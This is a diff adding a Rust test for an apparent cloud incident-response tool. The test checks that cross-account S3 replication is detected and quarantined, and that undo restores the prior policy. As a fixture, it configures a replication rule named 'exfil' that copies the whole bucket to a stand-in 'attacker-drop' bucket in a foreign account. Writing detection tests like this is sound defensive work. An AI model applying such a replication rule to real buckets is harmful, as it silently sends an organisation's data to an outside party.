@@ -630,3 +630,123 @@ async fn a_public_access_point_makes_the_bucket_public_and_its_policy_is_removed
     assert_eq!(verdict().await.verdict, Verdict::Public);
     t.journal_ok();
 }
+
+/// Replication to another account's bucket is read and makes the bucket
+/// shared; quarantine adds one Deny (the rest of the policy stays), read
+/// back, and undo returns the exact prior policy.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn replication_to_another_account_is_a_door_and_quarantine_shuts_then_undoes() {
+    use aws_sdk_s3::types::{
+        BucketVersioningStatus, Destination, ReplicationConfiguration, ReplicationRule,
+        ReplicationRuleStatus, VersioningConfiguration,
+    };
+    use warroom::aws::exposure::{BucketRef, account_facts, bucket_facts};
+    use warroom::model::exposure::{Verdict, assess};
+    let t = bench(&["q-src"]).await;
+    t.c.s3
+        .put_bucket_versioning()
+        .bucket("q-src")
+        .versioning_configuration(
+            VersioningConfiguration::builder()
+                .status(BucketVersioningStatus::Enabled)
+                .build(),
+        )
+        .send()
+        .await
+        .expect("versioning");
+    t.c.s3
+        .put_bucket_replication()
+        .bucket("q-src")
+        .replication_configuration(
+            ReplicationConfiguration::builder()
+                .role("arn:aws:iam::123456789012:role/replication")
+                .rules(
+                    ReplicationRule::builder()
+                        .id("exfil")
+                        .status(ReplicationRuleStatus::Enabled)
+                        // moto renders a missing Priority as "None", which
+                        // no SDK parses: give one, as V2 rules have.
+                        .priority(1)
+                        .prefix("")
+                        .destination(
+                            Destination::builder()
+                                .bucket("arn:aws:s3:::attacker-drop")
+                                .account("999988887777")
+                                .build()
+                                .expect("destination"),
+                        )
+                        .build()
+                        .expect("rule"),
+                )
+                .build()
+                .expect("config"),
+        )
+        .send()
+        .await
+        .expect("replication");
+    let verdict = || async {
+        let account = account_facts(&t.c, Some(ACCOUNT)).await;
+        let facts = bucket_facts(
+            &t.c,
+            BucketRef {
+                name: "q-src".into(),
+                region: Some(REGION.into()),
+            },
+        )
+        .await;
+        assess(&account, &facts)
+    };
+    let a = verdict().await;
+    assert_eq!(a.verdict, Verdict::Shared, "{:?}", a.reasons);
+    assert!(
+        a.reasons[0].text.contains("replication rule exfil"),
+        "{}",
+        a.reasons[0].text
+    );
+
+    let app = r#"{"Version":"2012-10-17","Statement":[{"Sid":"App","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::123456789012:role/app"},"Action":"s3:GetObject","Resource":"arn:aws:s3:::q-src/*"}]}"#;
+    put_policy(&t.c, "q-src", app).await;
+    let before = containment::bucket_policy(&t.c, "q-src", REGION)
+        .await
+        .expect("read");
+    let q = ActionSpec::Quarantine(warroom::actions::quarantine::Args {
+        bucket: "q-src".into(),
+        keep: Vec::new(),
+    });
+    let (plan, id) = t.apply(&q).await;
+    assert!(
+        plan.before
+            .iter()
+            .any(|l| l.starts_with("keeps access: arn:aws:")),
+        "{:?}",
+        plan.before
+    );
+    let now = containment::bucket_policy(&t.c, "q-src", REGION)
+        .await
+        .expect("read")
+        .expect("policy");
+    let doc: Value = serde_json::from_str(&now).expect("json");
+    assert_eq!(doc["Statement"][0]["Sid"], "App", "the rest stays");
+    assert_eq!(
+        doc["Statement"][1]["Sid"],
+        warroom::actions::quarantine::QUARANTINE_SID
+    );
+    assert_eq!(doc["Statement"][1]["Action"], "s3:*");
+    assert!(
+        verdict()
+            .await
+            .reasons
+            .iter()
+            .any(|r| r.text.starts_with("quarantined:"))
+    );
+    let err = actions::plan(&t.c, &q).await.expect_err("already");
+    assert!(matches!(err, ActionError::NothingToDo(_)), "{err:?}");
+    t.undo(&id).await;
+    assert_eq!(
+        containment::bucket_policy(&t.c, "q-src", REGION)
+            .await
+            .expect("read"),
+        before
+    );
+    t.journal_ok();
+}
